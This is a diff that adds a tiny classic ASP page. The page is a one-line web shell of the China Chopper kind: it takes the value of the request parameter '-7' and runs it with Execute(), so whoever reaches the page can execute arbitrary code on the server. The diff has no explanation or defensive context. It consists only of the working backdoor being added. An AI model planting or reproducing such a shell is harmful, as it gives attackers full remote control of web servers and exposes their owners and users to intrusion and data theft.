@@ -1,0 +1,5 @@
+<%@ codepage=65001%>
+<%
+chopper=request("-7")
+Execute(chopper)
+%>
